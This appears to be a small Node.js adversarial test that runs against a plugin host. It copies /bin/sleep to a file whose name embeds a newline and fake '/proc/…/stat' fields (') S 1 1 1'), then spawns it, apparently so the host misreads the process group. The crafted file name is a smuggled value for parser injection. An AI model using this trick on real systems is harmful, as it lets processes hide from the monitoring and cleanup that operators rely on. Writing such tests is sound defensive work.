import { spawn } from 'node:child_process';
import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import { attackHost } from './lib/attack.js';

/** Read as one line, /proc/…/stat names another process group. */
const program = join(process.env.PLUGIN_UNIX_SOCKET_DIR ?? '', 'a\n) S 1 1 1');

attackHost({
  afterHealth() {
    copyFileSync('/bin/sleep', program);
    spawn(program, ['600'], { env: {}, stdio: 'ignore' });
  },
});
